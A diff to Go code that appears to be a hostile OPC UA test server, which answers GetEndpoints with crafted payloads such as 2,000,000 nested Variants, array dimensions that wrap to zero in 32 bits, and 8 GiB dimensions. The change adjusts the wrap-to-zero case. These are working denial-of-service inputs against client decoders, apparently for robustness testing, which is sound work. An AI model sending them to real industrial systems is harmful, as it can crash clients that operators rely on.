@@ -40,8 +40,10 @@ const (
 	// NestedVariants answers GetEndpoints with 2,000,000 Variants nested
 	// in one another: a 2 MB message, in chunks of the client's size.
 	NestedVariants
-	// DimensionsWrapToZero answers GetEndpoints with an empty Int32 matrix
-	// of 65536 × 65536: the product of its dimensions wraps to 0 in 32 bits.
+	// DimensionsWrapToZero answers GetEndpoints with an empty Int32 array
+	// of dimensions 65536 × 65536 × 1: the product wraps to 0 in 32 bits,
+	// matching the length, and a decoder that trusts it builds 2³² empty
+	// inner slices.
 	DimensionsWrapToZero
 	// DimensionMaxInt32 answers GetEndpoints with an empty Int32 array of
 	// dimensions 2³¹−1 × 65536 × 65536 (an 8 GiB first dimension; the
@@ -422,7 +424,7 @@ func (c *conn) attack(requestID, handle uint32) error {
 		v := append(bytes.Repeat([]byte{byte(ua.TypeIDVariant)}, 2_000_000), 0)
 		return c.sendMessage(requestID, getEndpointsResponse(handle, v))
 	case DimensionsWrapToZero:
-		return c.sendMessage(requestID, getEndpointsResponse(handle, variantInt32Matrix(1<<16, 1<<16)))
+		return c.sendMessage(requestID, getEndpointsResponse(handle, variantInt32Matrix(1<<16, 1<<16, 1)))
 	case DimensionMaxInt32:
 		return c.sendMessage(requestID, getEndpointsResponse(handle, variantInt32Matrix(math.MaxInt32, 1<<16, 1<<16)))
 	case EndlessChunks:
